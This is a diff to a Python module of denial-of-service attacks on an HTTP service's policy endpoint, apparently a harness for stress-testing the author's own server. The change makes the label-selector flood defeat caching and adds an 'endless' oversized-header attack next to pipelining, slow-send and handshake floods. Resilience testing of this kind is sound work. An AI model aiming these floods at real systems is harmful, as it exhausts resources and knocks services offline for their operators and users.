@@ -4,6 +4,7 @@
 did.
 """
 
+import itertools
 import os
 import socket
 import ssl
@@ -37,13 +38,13 @@ def connector(port: int) -> Connect:
     return connect
 
 
-def requests(connect: Connect, request: bytes) -> Attack:
-    """The same request time and again, on a new connection wherever the last one was ended."""
+def requests(connect: Connect, request: Callable[[], bytes]) -> Attack:
+    """One request after the other, on a new connection wherever the last one was ended."""
     connection: Connection | None = None
     while True:
         try:
             connection = connection or connect()
-            connection.sendall(request)
+            connection.sendall(request())
             head = connection.recv(65536)
         except OSError:
             head = b""
@@ -110,17 +111,28 @@ def idle(connect: Connect) -> Attack:
         yield 0
 
 
-def _query(length: int) -> bytes:
+def _selectors(length: int) -> Callable[[], bytes]:
+    """Requests with a selector of many values, each another one, so that nothing is remembered."""
+    numbers = itertools.count(os.getpid() * 1_000_000)
     values = ",".join(f"value-{index}" for index in range(length // 12))
-    target = f"{_POLICY}/%2A/effective_cpu?labelSelector=app%20in%20({values})"[: length - 2]
-    return f"GET {target}) HTTP/1.1\r\nHost: x\r\n\r\n".encode()
+
+    def request() -> bytes:
+        selector = f"app%20in%20(v{next(numbers)},{values})"
+        return f"GET {_POLICY}/%2A/effective_cpu?labelSelector={selector} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
+
+    return request
+
+
+def _lines(number: int) -> bytes:
+    return b"".join(b"x%d: %s\r\n" % (index, b"y" * 60_000) for index in range(number))
 
 
 ATTACKS: dict[str, Callable[[Connect], Attack]] = {
-    "selectors": lambda connect: requests(connect, _query(63 * 1024)),
-    "fields": lambda connect: requests(connect, _START + _FIELDS + b"\r\n"),
-    "pipeline": lambda connect: requests(connect, 500 * (_START + b"\r\n")),
-    "heads": lambda connect: unfinished(connect, b"".join(b"x%d: %s\r\n" % (i, b"y" * 60_000) for i in range(4))),
+    "selectors": lambda connect: requests(connect, _selectors(60 * 1024)),
+    "fields": lambda connect: requests(connect, lambda: _START + _FIELDS + b"\r\n"),
+    "pipeline": lambda connect: requests(connect, lambda: 500 * (_START + b"\r\n")),
+    "heads": lambda connect: unfinished(connect, _lines(4)),
+    "endless": lambda connect: unfinished(connect, _lines(32)),
     "tiny-heads": lambda connect: unfinished(connect, _FIELDS),
     "slow": slow,
     "handshakes": handshakes,
